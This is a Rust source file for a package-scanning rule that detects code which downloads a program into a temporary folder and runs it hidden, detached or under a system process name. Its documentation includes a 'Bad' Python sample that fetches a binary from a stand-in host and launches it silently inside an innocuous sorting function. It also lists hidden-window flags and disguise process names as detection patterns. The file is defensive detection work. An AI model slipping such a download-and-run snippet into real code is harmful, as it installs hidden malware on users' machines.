//! ## What it detects
//!
//! A program that code fetches into a temporary folder once somebody calls it, and starts out of sight: detached, without a window and without output, or under the name of a part of the system.
//!
//! ## Why it is bad
//!
//! Whoever fetches a tool for its user shows what it says, waits for it, and keeps it where it is found again.
//!
//! ## Innocent lookalikes
//!
//! Wrappers keep their program in a cache of their own. Drivers of browsers run without a window, and are asked by a port.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import os, subprocess, tempfile, urllib.request
//! def fast(values):
//!     path = os.path.join(tempfile.gettempdir(), 'fast')
//!     urllib.request.urlretrieve('http://x.example.invalid/fast', path)
//!     os.chmod(path, 0o755)
//!     subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
//!     return sorted(values)
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import os, subprocess, tempfile, urllib.request
//! def install(version):
//!     path = os.path.join(tempfile.gettempdir(), 'setup')
//!     urllib.request.urlretrieve('http://x.example.invalid/setup-' + version, path)
//!     subprocess.run([path, '--prefix', os.getcwd()], check=True)
//! ```

use fondaco_python::{Api, Call, Language, Unit, Value};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use super::command_download::fetches_and_runs;
use super::downloaded_command::runs_of_downloads;
use crate::commands::commands;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("silent-program"),
    title: "fetches a program and starts it out of sight",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Evasion),
    weight: 1.4,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    let asked = |call: &Call| !call.trigger.is_some_and(Trigger::is_unasked);
    for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::Shell) && asked(call)) {
        if commands(call).iter().any(|text| fetches_and_runs(text) && is_quiet(text)) {
            hits.call(unit, call, "a command that fetches something and runs it where nobody sees it");
        }
    }
    let is_script = |unit: &&Unit| unit.layer > 0 && unit.language != Language::Python && unit.language.is_code();
    for unit in package.units().filter(is_script).filter(|unit| !unit.trigger.is_none_or(Trigger::is_unasked)) {
        if fetches_and_runs(&unit.text) && is_quiet(&unit.text) {
            hits.line(unit, 1, "a script that fetches something and runs it where nobody sees it");
        }
    }
    for (unit, call) in runs_of_downloads(package) {
        if asked(call) && call.api == Some(Api::Shell) && is_passing(unit, call) && (is_hidden(call) || is_disguised(unit, call)) {
            hits.call(unit, call, "starts a program that it has fetched where nobody sees it");
        }
    }
}

/// Whether a command shows nothing of what it does, and is not waited for.
fn is_quiet(text: &str) -> bool {
    let text = text.to_ascii_lowercase();
    let is_background = || text.contains("/dev/null") && text.trim_end_matches([' ', '\n']).ends_with('&');
    is_background() || ["-windowstyle hidden", "-w hidden", "-win hidden"].iter().any(|option| text.contains(option))
}

/// Whether the program lies where it is gone tomorrow.
fn is_passing(unit: &Unit, call: &Call) -> bool {
    let is_temporary = |text: &str| ["/tmp/", "/dev/shm/", "/var/tmp/"].iter().any(|folder| text.starts_with(folder));
    let makes = ["gettempdir(", "mkdtemp(", "mkstemp(", "NamedTemporaryFile(", "\"TEMP\"", "'TEMP'", "\"TMP\"", "'TMP'"];
    call.texts().into_iter().any(is_temporary) || makes.iter().any(|mark| unit.text.contains(mark))
}

/// Detached or without a window, and nothing that it says is shown or read.
fn is_hidden(call: &Call) -> bool {
    let named = |key: &str| call.kwargs.iter().find(|(name, _)| name == key).map(|(_, value)| value);
    let is_null = |value: &Value| value.name.as_deref().is_some_and(|name| name.ends_with("DEVNULL"));
    let is_silent = ["stdout", "stderr"].iter().all(|key| named(key).is_some_and(is_null));
    let is_apart = ["start_new_session", "creationflags", "preexec_fn", "startupinfo"].iter().any(|key| named(key).is_some());
    call.callee == "subprocess.Popen" && is_apart && is_silent
}

/// Whether a program is called as one of the system.
fn is_disguised(unit: &Unit, call: &Call) -> bool {
    const PARTS: [&str; 12] = [
        "svchost", "csrss", "lsass", "winlogon", "services.exe", "explorer.exe", "runtimebroker", "dllhost", "taskhost", "conhost",
        "spoolsv", "systemd-",
    ];
    let is_part = |text: &str| {
        let name = text.rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
        text.len() < 512 && PARTS.iter().any(|part| name.starts_with(part))
    };
    let saved = unit.calls.iter().filter(|save| save.function == call.function && save.callee.ends_with(".urlretrieve"));
    call.texts().into_iter().any(is_part) || saved.flat_map(|save| save.args.iter().skip(1)).flat_map(Value::texts).any(is_part)
}
